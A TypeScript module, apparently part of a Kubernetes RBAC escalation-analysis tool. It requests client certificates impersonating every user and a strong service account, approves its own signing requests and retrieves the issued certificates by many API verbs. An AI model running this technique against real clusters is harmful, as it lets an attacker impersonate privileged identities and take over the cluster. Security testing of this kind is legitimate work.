import { setTimeout as sleep } from 'node:timers/promises';
import { signingRequest } from '../../../helpers/certificates.ts';
import { type Action, type Attack, type PendingCertificate, STRONG_ACCOUNT } from '../attack.ts';
import { accountIdentity, certificateCredential, userIdentity } from '../credentials.ts';
import { create, MERGE, outcomeOf } from '../outcome.ts';
import { objectPath } from '../stage.ts';
import type { Manifest } from '../world.ts';

/** Asks for a client certificate of each user, and of the strongest account. */
export const requestCertificates: Action = {
  name: 'request a certificate',
  resources: ['certificatesigningrequests'],
  async run(attack, credential) {
    const { users, groups, listed } = attack.names;
    const strongest = accountIdentity(STRONG_ACCOUNT);
    const named = listed('certificatesigningrequests', 'certificatesigningrequests/approval');
    const wanted = [
      ...[...users.map(userIdentity), strongest].map((identity) => ({ identity, name: null })),
      ...named.map((name) => ({ identity: strongest, name })),
    ];
    for (const { identity, name } of wanted) {
      const memory = JSON.stringify(['certificate', identity.key, name]);
      if (attack.done.has(memory)) continue;
      const { request, key } = signingRequest({ user: identity.userName, groups });
      const object = requestObject(name ?? attack.freshName(), request);
      if ((await create(credential, object, name !== null)) !== 'done') continue;
      attack.done.add(memory);
      attack.stage.discard(objectPath(object));
      attack.certificates.push({ object, identity, groups, key, isIssued: false, isFetched: false });
      attack.version += 1;
    }
  },
};

/** Approves each request for a certificate, and waits until it is signed. */
export const approveCertificates: Action = {
  name: 'approve a certificate',
  resources: ['certificatesigningrequests/approval'],
  async run(attack, { send }) {
    for (const pending of attack.certificates.filter(({ isIssued }) => !isIssued)) {
      const path = objectPath(pending.object);
      const status = { conditions: [{ type: 'Approved', status: 'True', reason: 'any', message: 'any' }] };
      const patched = await send('PATCH', `${path}/approval`, { status }, MERGE);
      const put =
        outcomeOf(patched) !== 'done' && (await send('PUT', `${path}/approval`, { ...pending.object, status }));
      if (outcomeOf(patched) !== 'done' && (!put || outcomeOf(put) !== 'done')) continue;
      await signed(attack, path);
      pending.isIssued = true;
      attack.version += 1;
    }
  },
};

/** Fetches each certificate by each verb that answers with it. */
export const fetchCertificates: Action = {
  name: 'fetch a certificate',
  resources: ['certificatesigningrequests', 'certificatesigningrequests/approval', 'certificatesigningrequests/status'],
  async run(attack, { send }) {
    for (const pending of attack.certificates.filter(({ isIssued, isFetched }) => isIssued && !isFetched)) {
      const path = objectPath(pending.object);
      const all = path.slice(0, path.lastIndexOf('/'));
      const byName = `fieldSelector=metadata.name%3D${pending.object.metadata.name}`;
      const attempts: [method: string, path: string, body?: object, headers?: Record<string, string>][] = [
        ['GET', path],
        ['GET', `${path}/approval`],
        ['GET', `${path}/status`],
        ['GET', `${all}?${byName}`],
        ['GET', `${all}?watch=true&timeoutSeconds=1&${byName}`],
        ['PATCH', `${path}/approval`, {}, MERGE],
        ['PATCH', `${path}/status`, {}, MERGE],
        ['PATCH', path, {}, MERGE],
        ['DELETE', `${path}?dryRun=All&propagationPolicy=Orphan`],
        ['DELETE', `${all}?dryRun=All`],
      ];
      for (const attempt of attempts) {
        const { status, body } = await send(...attempt);
        const text = typeof body === 'string' ? body : JSON.stringify(body);
        const [, certificate] = (status === 200 && ofRequest(text, pending)) || [];
        if (!certificate) continue;
        const pair = { cert: Buffer.from(certificate, 'base64').toString(), key: pending.key };
        pending.isFetched = true;
        attack.hold(this.name, certificateCredential(attack.plane, pending.identity, pending.groups, pair));
        break;
      }
    }
  },
};

/** The certificate in an answer that holds one or several requests. */
function ofRequest(text: string, { object }: PendingCertificate): RegExpExecArray | null {
  const from = text.indexOf(`"request":"${(object.spec as { request: string }).request}"`);
  return from === -1 ? null : /"certificate":"([^"]+)"/.exec(text.slice(from));
}

async function signed({ plane }: Attack, path: string): Promise<void> {
  for (const deadline = Date.now() + 10_000; Date.now() < deadline; await sleep(5)) {
    const { body } = await plane.request('GET', path);
    if ((body as { status?: { certificate?: string } }).status?.certificate) return;
  }
  throw new Error(`nobody has signed ${path}`);
}

const requestObject = (name: string, request: string): Manifest => ({
  ...{ apiVersion: 'certificates.k8s.io/v1', kind: 'CertificateSigningRequest', metadata: { name } },
  spec: {
    ...{ request: Buffer.from(request).toString('base64'), signerName: 'kubernetes.io/kube-apiserver-client' },
    usages: ['client auth'],
  },
});
